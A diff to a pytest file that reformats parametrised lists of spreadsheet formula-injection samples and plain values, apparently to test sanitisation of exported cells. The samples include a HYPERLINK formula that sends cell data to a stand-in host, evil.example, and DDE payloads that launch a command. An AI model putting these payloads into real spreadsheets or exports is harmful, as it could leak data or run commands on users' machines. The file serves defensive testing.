@@ -143,32 +143,12 @@ def test_the_name_of_a_collection_is_no_path(name, tmp_path, monkeypatch, capsys
 
 
 FORMULAS = [
-    '=HYPERLINK("http://evil.example/"&A1,"open")',
-    "=1+1",
-    "+cmd|' /C calc'!A0",
-    "-1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "-A1",
-    "+1-SUM(A1)",
-]
+    '=HYPERLINK("http://evil.example/"&A1,"open")', "=1+1", "+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-A1", "+1-SUM(A1)",
+]  # fmt: skip
 PLAIN = [
-    "-0.35",
-    "+1.2",
-    "−0.12",
-    "-0.12 to 0.30",
-    "-1.5e-3",
-    "+3.1 [-2.0, 8.2]",
-    "-",
-    "",
-    "text",
-    "a = b",
-    3,
-    -0.5,
-    None,
-]
+    "-0.35", "+1.2", "−0.12", "-0.12 to 0.30", "-1.5e-3", "+3.1 [-2.0, 8.2]", "-", "", "text", "a = b", 3, -0.5, None,
+]  # fmt: skip
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
